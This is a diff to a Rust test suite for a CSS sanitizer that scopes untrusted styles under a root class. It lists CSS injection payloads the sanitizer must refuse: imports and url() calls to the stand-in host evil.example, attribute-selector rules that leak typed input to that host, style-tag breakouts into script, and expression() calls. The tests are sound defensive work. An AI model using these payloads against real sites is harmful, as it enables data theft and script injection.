@@ -10,7 +10,7 @@ const REFUSED: &[(&str, &str)] = &[
     ("import by url()", "@import url(https://evil.example/a.css);"),
     ("import with an escape", "@\\69mport 'https://evil.example/a.css';"),
     ("import in capitals", "@IMPORT \"//evil.example\";"),
-    ("import after a rule", ".a{color:red}@import '//evil.example';"),
+    ("import after a rule", ".a{padding:1px}@import '//evil.example';"),
     ("charset", "@charset \"utf-7\";"),
     ("url in background", ".a{background:url(https://evil.example/x.png)}"),
     ("url without a scheme", ".a{background:url(//evil.example/x)}"),
@@ -37,33 +37,33 @@ const REFUSED: &[(&str, &str)] = &[
     ("namespace", "@namespace url(http://www.w3.org/1999/xhtml);"),
     // Reading what is typed.
     ("attribute with a letter", "input[value^=a]{background:url(//evil.example/a)}"),
-    ("attribute alone", "input[type=password]{color:red}"),
-    ("attribute present", "[data-token]{color:red}"),
+    ("attribute alone", "input[type=password]{padding:1px}"),
+    ("attribute present", "[data-token]{padding:1px}"),
     ("attr()", ".a{width:attr(data-token)}"),
-    ("has", "form:has(input){color:red}"),
-    ("visited", "a:visited{color:red}"),
-    ("valid", "input:valid{color:red}"),
-    ("autofill", "input:autofill{color:red}"),
-    ("checked", "input:checked+a{color:red}"),
+    ("has", "form:has(input){padding:1px}"),
+    ("visited", "a:visited{padding:1px}"),
+    ("valid", "input:valid{padding:1px}"),
+    ("autofill", "input:autofill{padding:1px}"),
+    ("checked", "input:checked+a{padding:1px}"),
     ("unicode-range", "@font-face{font-family:p;src:local(a);unicode-range:U+41}"),
     // Leaving the element.
     ("style end", "</style><script>alert(1)</script>"),
     ("style end in a string", ".a{font-family:'</style><script>alert(1)</script>'}"),
-    ("style end in a name", ".\\3c\\2fstyle\\3e{color:red}"),
+    ("style end in a name", ".\\3c\\2fstyle\\3e{padding:1px}"),
     ("style end in a font", ".a{font-family:\"\\3c/style>\"}"),
-    ("html comment", "<!-- .a{color:red} -->"),
+    ("html comment", "<!-- .a{padding:1px} -->"),
     ("string that does not end", ".a{font-family:'x\n}"),
     // Reaching outside of the root.
     ("nesting", ".a{:not(&){display:none}}"),
-    ("nesting a parent", ".a{.b &{color:red}}"),
-    ("root", ":root{color:red}"),
-    ("scope", ":scope{color:red}"),
-    ("host", ":host{color:red}"),
-    ("slotted", "::slotted(a){color:red}"),
-    ("part", "::part(a){color:red}"),
-    ("backdrop", "::backdrop{color:red}"),
-    ("at-scope", "@scope (html){.a{color:red}}"),
-    ("layer", "@layer reset{.a{color:red}}"),
+    ("nesting a parent", ".a{.b &{padding:1px}}"),
+    ("root", ":root{padding:1px}"),
+    ("scope", ":scope{padding:1px}"),
+    ("host", ":host{padding:1px}"),
+    ("slotted", "::slotted(a){padding:1px}"),
+    ("part", "::part(a){padding:1px}"),
+    ("backdrop", "::backdrop{padding:1px}"),
+    ("at-scope", "@scope (html){.a{padding:1px}}"),
+    ("layer", "@layer reset{.a{padding:1px}}"),
     ("property", "@property --a{syntax:'*';inherits:false}"),
     // Hiding, covering and moving.
     ("fixed", ".a{position:fixed;inset:0}"),
@@ -94,6 +94,14 @@ const REFUSED: &[(&str, &str)] = &[
     ("-webkit-text-security", "input{-webkit-text-security:none}"),
     ("all", ".a{all:unset}"),
     ("zoom", ".a{zoom:100}"),
+    // What can't be read: colours and sizes are the theme's, which is judged.
+    ("colour of text", ".card,.card *{color:#fff}"),
+    ("ground of text", ".card{background:#fff}"),
+    ("ground by a gradient", ".card{background-image:linear-gradient(red,blue)}"),
+    ("ground by a shadow", ".card{box-shadow:inset 0 0 0 999px #fff}"),
+    ("size of text", ".card{font-size:0}"),
+    ("size of text, in short", ".card{font:0/0 a}"),
+    ("height of lines", ".card{line-height:0}"),
     // Running, in browsers past and present.
     ("expression", ".a{width:expression(alert(1))}"),
     ("expression with a comment", ".a{width:expr/**/ession(alert(1))}"),
@@ -105,14 +113,14 @@ const REFUSED: &[(&str, &str)] = &[
     ("variable defined", ".a{--x:url(//evil.example)}"),
     ("env()", ".a{padding:env(safe-area-inset-top)}"),
     ("star hack", ".a{*width:expression(1)}"),
-    ("supports", "@supports (display:grid){.a{color:red}}"),
-    ("document", "@-moz-document url(http://x){.a{color:red}}"),
-    ("unknown at-rule", "@evil{.a{color:red}}"),
+    ("supports", "@supports (display:grid){.a{padding:1px}}"),
+    ("document", "@-moz-document url(http://x){.a{padding:1px}}"),
+    ("unknown at-rule", "@evil{.a{padding:1px}}"),
     // Confusing the reader.
-    ("bracket that closes nothing", "}.a{color:red}"),
+    ("bracket that closes nothing", "}.a{padding:1px}"),
     ("bracket of another kind", ".a{color:rgb(1,2,3}}"),
-    ("media in media", "@media screen{@media (width){.a{color:red}}}"),
-    ("url in a media query", "@media (foo:url(//evil.example)){.a{color:red}}"),
+    ("media in media", "@media screen{@media (width){.a{padding:1px}}}"),
+    ("url in a media query", "@media (foo:url(//evil.example)){.a{padding:1px}}"),
 ];
 
 #[test]
@@ -123,7 +131,7 @@ fn every_attack_is_refused_with_words() {
             Err(refused) => assert!(!refused.to_string().is_empty(), "{name}"),
             Ok(out) => panic!("{name} came through: {out}"),
         }
-        let hidden = format!(".ok{{color:red}}\n{css}\n.fine{{color:blue}}");
+        let hidden = format!(".ok{{padding:1px}}\n{css}\n.fine{{margin:0}}");
         assert!(scoped(&hidden).is_err(), "{name}, between good rules");
     }
 }
@@ -132,34 +140,34 @@ fn every_attack_is_refused_with_words() {
 fn deep_brackets_and_long_selectors_end_neither_the_stack_nor_the_patience() {
     for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), (":not(", ")"), ("calc(", ")"), (":is(:where(", "))")] {
         for times in [40, 400, 4000] {
-            let css = format!("a{}b{}{{color:red}}", open.repeat(times), close.repeat(times));
+            let css = format!("a{}b{}{{padding:1px}}", open.repeat(times), close.repeat(times));
             assert!(scoped(&css).is_err(), "{times} times {open}");
             assert!(scoped(&format!("a{}", open.repeat(times))).is_err(), "{times} times {open}, never closed");
         }
     }
-    let long = format!("{} {{color:red}}", "a>".repeat(2000) + "a");
+    let long = format!("{} {{padding:1px}}", "a>".repeat(2000) + "a");
     assert!(scoped(&long).is_err());
-    let wide = format!("{} {{color:red}}", vec!["a"; 5000].join(","));
+    let wide = format!("{} {{padding:1px}}", vec!["a"; 5000].join(","));
     assert!(scoped(&wide).is_err());
     let started = std::time::Instant::now();
-    let full = ".abcdefgh{color:rgb(1,2,3)}".repeat(900);
+    let full = ".abcdefgh{border:1px solid red}".repeat(900);
     assert!(scoped(&full).is_ok());
     assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
 }
 
 #[test]
 fn a_comment_that_does_not_end_is_left_behind_with_all_that_is_in_it() {
-    assert_eq!(scoped(".a{color:red} /* </style><script>").unwrap(), format!(".{ROOT} .a{{color:red}}\n"));
+    assert_eq!(scoped(".a{padding:1px} /* </style><script>").unwrap(), format!(".{ROOT} .a{{padding:1px}}\n"));
 }
 
 /// Taken, and still nothing but the brand's own part is reached.
 #[test]
 fn whatever_comes_through_stands_below_the_root() {
     let css = scoped(
-        "html, body, * { color: red }
-         .omnibus-security, #consent a, header + main { background: #fff; padding: 1px }
+        "html, body, * { padding: 0 }
+         .omnibus-security, #consent a, header + main { padding: 1px }
          a:hover, .a > .b ~ .c:not(.d):nth-child(2n+1) { margin: 0 auto; border: 1px solid rgb(0 0 0 / 50%) }
-         @media (prefers-color-scheme: dark) { p { background: linear-gradient(red, blue) } }",
+         @media (prefers-color-scheme: dark) { p { padding: 2px } }",
     )
     .unwrap();
     for line in css.lines().filter(|line| line.contains('{') && !line.starts_with('@')) {
@@ -168,6 +176,7 @@ fn whatever_comes_through_stands_below_the_root() {
             assert!(selector.starts_with(&format!(".{ROOT} ")), "{line}");
         }
     }
-    assert!(!css.contains("url") && !css.contains('<') && !css.contains('@') || css.contains("@media"), "{css}");
+    assert!(!css.contains("url") && !css.contains('<'), "{css}");
+    assert!(css.lines().all(|line| !line.contains('@') || line.starts_with("@media ")), "{css}");
     assert_eq!(scoped(&css).unwrap().lines().count(), css.lines().count(), "what came out goes in again");
 }
